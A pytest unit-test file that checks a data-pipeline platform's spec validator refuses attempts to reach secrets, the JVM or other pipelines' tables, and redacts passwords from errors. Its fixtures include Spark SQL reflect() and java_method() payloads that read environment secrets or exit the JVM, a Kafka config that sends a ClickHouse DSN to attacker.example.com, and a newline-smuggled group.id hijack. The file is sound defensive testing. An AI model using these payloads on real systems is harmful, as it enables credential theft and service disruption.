"""Issue 19: a spec cannot reach secrets, the JVM or another pipeline's table; no secret in the UI.

Each test takes the issue's own input (the spec text that passed before) and asserts the refusal.
"""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from riverhouse.platform.envrefs import resolve_env_refs
from riverhouse.platform.sink.clickhouse import (
    LEDGER_TABLE,
    ClickHouseLoadError,
    check_dsn,
    create_table_sql,
    open_client,
    staging_table_name,
)
from riverhouse.platform.spec import SpecError, load_spec_folder, parse_spec
from riverhouse.platform.state.settings import Settings, SettingsError, redact_dsn
from tests.conftest import REPO

pytestmark = pytest.mark.unit

JOIN_SOURCES = {
    "orders": {
        "topic": "orders",
        "fields": {"order_id": "string", "user_id": "string", "amount": "int"},
        "key": ["order_id"],
    },
    "users": {"topic": "users", "fields": {"user_id": "string", "name": "string"}, "key": ["user_id"]},
}


def base() -> dict[str, Any]:
    return yaml.safe_load((REPO / "pipelines" / "orders_dedup.yaml").read_text())


def refused(data: dict[str, Any]) -> str:
    with pytest.raises(SpecError) as info:
        parse_spec(data, "test.yaml")
    return " | ".join(f"{path}: {message}" for path, message, _ in info.value.problems)


def query_spec(query: str) -> dict[str, Any]:
    return {"name": "q", "sources": JOIN_SOURCES, "query": query, "sink": {"table": "out", "order_by": ["order_id"]}}


def run_cli(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
    import os

    return subprocess.run(
        [sys.executable, "-m", "riverhouse.cli", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), **env},
        stdin=subprocess.DEVNULL,
    )


# ----------------------------------------------------------------- item 2: SQL allow-list
@pytest.mark.parametrize(
    ("query", "message"),
    [
        (
            "SELECT o.order_id, reflect('java.lang.System','getenv','KAFKA_PASSWORD') AS leak "
            "FROM orders o LEFT JOIN users u ON o.user_id = u.user_id",
            "function reflect() is not allowed",
        ),
        (
            "SELECT o.order_id FROM orders o WHERE java_method('java.lang.System','exit',0) IS NULL",
            "function java_method() is not allowed",
        ),
        (
            "SELECT o.order_id FROM orders o WHERE EXISTS (SELECT 1 FROM users u WHERE u.user_id = o.user_id)",
            "subqueries",
        ),
        ("SELECT o.order_id FROM text.orders o", "name a source without a qualifier"),
        ("SELECT o.order_id FROM orders o WHERE o.user_id IN (SELECT u.user_id FROM users u)", "subqueries"),
        ("SELECT o.order_id, try_reflect('java.lang.System','getenv','X') AS r FROM orders o", "try_reflect()"),
        ("SELECT o.order_id, current_user() AS who FROM orders o", "current_user()"),
        ("SELECT o.order_id, rand() AS r FROM orders o", "rand()"),
        ("SELECT o.order_id, input_file_name() AS f FROM orders o", "input_file_name()"),
        ("SELECT o.order_id, transform(array(1), x -> x + 1) AS t FROM orders o", "not allowed"),
        (
            "SELECT o.order_id FROM orders o LEFT JOIN spark_catalog.default.users u ON o.user_id = u.user_id",
            "qualifier",
        ),
    ],
)
def test_query_outside_the_allow_list_is_refused(query: str, message: str) -> None:
    assert message in refused(query_spec(query))


def test_query_with_allowed_functions_and_constructs_validates() -> None:
    spec = parse_spec(
        query_spec(
            "SELECT o.order_id, upper(trim(u.name)) AS name, CASE WHEN o.amount > 10 THEN 'big' ELSE 'small' END AS size, "
            "CAST(o.amount AS BIGINT) * 2 AS doubled, coalesce(u.name, 'unknown') AS who, "
            "concat(o.user_id, '-', o.order_id) AS ref, round(o.amount / 3, 2) AS third, "
            "length(o.order_id) AS n FROM orders o LEFT JOIN users u ON o.user_id = u.user_id "
            "WHERE o.amount BETWEEN 1 AND 1000 AND o.order_id LIKE 'o%' AND u.name IS NOT NULL"
        )
    )
    assert spec.plan.output_names == ["order_id", "name", "size", "doubled", "who", "ref", "third", "n"]


# ----------------------------------------------------------------- item 3: ${env:NAME}
def test_env_ref_outside_the_secret_prefix_is_refused() -> None:
    data = base()
    data["kafka"] = {
        "bootstrap_servers": "attacker.example.com:9092",
        "config": {"client.id": "${env:RIVERHOUSE_CLICKHOUSE_DSN}"},
    }
    message = refused(data)
    assert "RIVERHOUSE_CLICKHOUSE_DSN" in message and "RIVERHOUSE_SECRET_" in message


def test_env_ref_only_in_secret_settings() -> None:
    data = base()
    data["kafka"]["config"] = {"client.id": "${env:RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_PASSWORD}"}
    assert "allowed only in secret settings" in refused(data)


def test_secret_prefixed_refs_in_secret_settings_resolve(monkeypatch: pytest.MonkeyPatch) -> None:
    data = base()
    data["kafka"]["security"] = {
        "protocol": "SASL_SSL",
        "mechanism": "PLAIN",
        "username": "${env:RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_USER}",
        "password": "${env:RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_PASSWORD}",
        "certificate": "/c.pem",
        "key": "/k.pem",
    }
    data["kafka"]["config"] = {"ssl.key.password": "${env:RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_KEY_PASSWORD}"}
    spec = parse_spec(data)
    monkeypatch.setenv("RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_USER", "svc")
    monkeypatch.setenv("RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_PASSWORD", "pw")
    monkeypatch.setenv("RIVERHOUSE_SECRET_ORDERS_DEDUP__KAFKA_KEY_PASSWORD", "kpw")
    assert spec.kafka.resolved_config() == {"ssl.key.password": "kpw"}
    from riverhouse.platform.kafka.client import librdkafka_security

    resolved = librdkafka_security(spec.kafka.security)
    assert (resolved["sasl.username"], resolved["sasl.password"]) == ("svc", "pw")


def test_operator_prefix_and_resolution_time_check(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RIVERHOUSE_CLICKHOUSE_DSN", "https://alice:s3cret@ch.example.com:8443/analytics")
    # The Kafka source resolves again in Spark's workers: the rule holds there too.
    with pytest.raises(SpecError, match="not allowed"):
        resolve_env_refs("${env:RIVERHOUSE_CLICKHOUSE_DSN}", "kafka.client.id")
    monkeypatch.setenv("RIVERHOUSE_SPEC_ENV_PREFIX", "TEAM_A_")
    monkeypatch.setenv("TEAM_A_PASSWORD", "pw")
    assert resolve_env_refs("${env:TEAM_A_PASSWORD}", "kafka.sasl.password") == "pw"
    with pytest.raises(SpecError, match="TEAM_A_"):
        resolve_env_refs("${env:RIVERHOUSE_SECRET_X}", "kafka.sasl.password")
    with pytest.raises(SpecError, match="not a valid reference"):
        resolve_env_refs("${env:BAD-NAME}", "kafka.sasl.password")


# ----------------------------------------------------------------- item 4: one table, one pipeline
def test_two_pipelines_cannot_load_one_clickhouse_table(tmp_path: Path) -> None:
    for name in ("pipe_a", "pipe_c"):
        data = base()
        data["name"] = name
        data["sources"]["orders"]["topic"] = f"orders_{name}"
        (tmp_path / f"{name}.yaml").write_text(yaml.safe_dump(data))
    specs, errors = load_spec_folder(tmp_path)
    assert [s.name for s in specs] == ["pipe_a"]
    assert len(errors) == 1 and errors[0].source.endswith("pipe_c.yaml")
    assert "default.orders is already loaded by" in str(errors[0]) and "pipe_a.yaml" in str(errors[0])
    proc = run_cli("validate", str(tmp_path / "pipe_a.yaml"), str(tmp_path / "pipe_c.yaml"))
    assert proc.returncode == 1 and "already loaded by" in proc.stderr and "Traceback" not in proc.stderr


def test_staging_tables_can_never_be_a_sink_table() -> None:
    staging = staging_table_name("orders")
    assert staging != "orders__rh_backfill"
    for reserved in (staging, LEDGER_TABLE, "Riverhouse_Anything"):
        data = base()
        data["sink"]["table"] = reserved
        assert "reserved for Riverhouse's own ClickHouse tables" in refused(data)
    data = base()
    data["sink"]["table"] = "orders__rh_backfill"  # an ordinary name now: no backfill drops it
    assert parse_spec(data).sink.table == "orders__rh_backfill"


# ----------------------------------------------------------------- item 5: trailing newline
@pytest.mark.parametrize(
    ("where", "value"),
    [(("name",), "h4\n"), (("sink", "table"), "orders\n"), (("sources", "orders", "topic"), "orders\n")],
)
def test_trailing_newline_fails_identifier_checks(where: tuple[str, ...], value: str) -> None:
    data = base()
    target = data
    for key in where[:-1]:
        target = target[key]
    target[where[-1]] = value
    assert refused(data)


def test_trailing_newline_in_a_kafka_key_cannot_slip_past_the_reserved_keys() -> None:
    data = base()
    data["kafka"]["config"] = {"group.id\n": "hijack"}
    assert "kafka.config: 'group.id\\n': not a client setting kafka.config passes on" in refused(data)


# ----------------------------------------------------------------- item 6: system columns
@pytest.mark.parametrize("field", ["_event_date", "_topic", "_status", "_anything"])
def test_fields_named_like_system_columns_are_refused(field: str) -> None:
    data = base()
    data["sources"]["orders"]["fields"][field] = "string"
    assert "reserved for Riverhouse's own columns" in refused(data)


def test_fields_differing_only_in_case_are_refused() -> None:
    data = base()
    data["sources"]["orders"]["fields"]["Amount"] = "int"
    assert "differ only in case" in refused(data)


def test_aliases_must_be_identifiers() -> None:
    assert "alias" in refused(query_spec("SELECT `o\n`.order_id FROM orders `o\n`"))


def test_output_columns_named_like_system_columns_are_refused() -> None:
    assert "reserved" in refused(query_spec("SELECT o.order_id, o.amount AS _matched FROM orders o"))
    join = {
        "name": "j",
        "sources": JOIN_SOURCES,
        "join": {
            "left": "orders",
            "right": "users",
            "on": ["user_id"],
            "window": "1h",
            "select": {"order_id": "orders.order_id", "_left_topic": "users.name"},
        },
        "sink": {"table": "out", "order_by": ["order_id"]},
    }
    assert "reserved" in refused(join)


# ----------------------------------------------------------------- item 7: redaction
def test_redaction_covers_oauth_config_and_dsn_query_strings() -> None:
    data = base()
    data["kafka"]["config"] = {
        "sasl.mechanism": "OAUTHBEARER",
        "sasl.oauthbearer.config": "principal=svc clientSecret=hunter2",
    }
    assert "hunter2" not in refused(data)  # refused (security belongs in kafka.security), the value not repeated
    assert "hunter2" not in redact_dsn("https://ch.example.com:8443/db?user=alice&password=hunter2")
    assert redact_dsn("https://ch.example.com:8443/db?user=alice&password=hunter2").endswith("user=alice&password=***")
    assert (
        redact_dsn("https://alice:s3cret@ch.example.com:8443/analytics")
        == "https://alice:***@ch.example.com:8443/analytics"
    )


def test_dsn_with_a_non_numeric_port_is_a_clear_error() -> None:
    dsn = "https://alice:s3cret@ch.example.com:eighty/analytics"
    assert "s3cret" not in redact_dsn(dsn)  # no ValueError either
    with pytest.raises(ClickHouseLoadError) as info:
        check_dsn(dsn)
    assert "numeric port" in str(info.value) and "s3cret" not in str(info.value)


# ----------------------------------------------------------------- item 8: checkpoints on object storage
def test_checkpoints_url_is_refused_not_turned_into_a_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("RIVERHOUSE_CHECKPOINTS", "s3a://bucket/ckpt")
    with pytest.raises(SettingsError, match="must be a local or mounted folder"):
        Settings.from_env(tmp_path)
    proc = run_cli("kafka", "status", "--home", str(tmp_path), RIVERHOUSE_CHECKPOINTS="s3a://bucket/ckpt")
    assert proc.returncode == 1 and "RIVERHOUSE_CHECKPOINTS" in proc.stderr and "Traceback" not in proc.stderr
    monkeypatch.setenv("RIVERHOUSE_CHECKPOINTS", f"file://{tmp_path}/ckpt")
    assert Settings.from_env(tmp_path).checkpoints == tmp_path / "ckpt"


def test_sessions_cannot_read_files_through_sql() -> None:
    assert Settings.from_env().spark_conf["spark.sql.runSQLOnFiles"] == "false"


# ----------------------------------------------------------------- item 10: errors that mislead
def test_unresolvable_clickhouse_host_fails_at_once_without_the_password() -> None:
    started = time.monotonic()
    with (
        pytest.raises(ClickHouseLoadError) as info,
        open_client("http://alice:s3cret@nonexistent-host.invalid:8123/db"),
    ):
        pass
    assert time.monotonic() - started < 10  # no retries: was ~60 s of silent retries (loaded CI: margin)
    assert "nonexistent-host.invalid" in str(info.value) and "s3cret" not in str(info.value)


def test_unreachable_clickhouse_says_it_retries_and_gives_up_in_seconds() -> None:
    import socket

    with socket.socket() as sock:  # a port nobody listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    said: list[str] = []
    started = time.monotonic()
    with (
        pytest.raises(ClickHouseLoadError) as info,
        open_client(f"http://alice:s3cret@127.0.0.1:{port}/db", log=said.append),
    ):
        pass
    assert time.monotonic() - started < 30  # 3 tries, 1.5 s of backoff (loaded CI: margin); was ~60 s
    assert said and all("retry" in line and "s3cret" not in line for line in said)
    assert "s3cret" not in str(info.value) and "127.0.0.1" in str(info.value)


def test_messages_name_a_reset_command_that_exists(tmp_path: Path) -> None:
    from riverhouse.platform.sink import clickhouse
    from riverhouse.platform.state import tables

    for module in (clickhouse, tables):
        assert "riverhouse reset" in Path(module.__file__).read_text()
    proc = run_cli("reset", "--help")
    assert proc.returncode == 0 and "--yes" in proc.stdout


def test_ddl_quotes_every_identifier() -> None:
    spec = parse_spec(base())
    ddl = create_table_sql(spec)
    assert "`orders`" in ddl and "`order_id`" in ddl
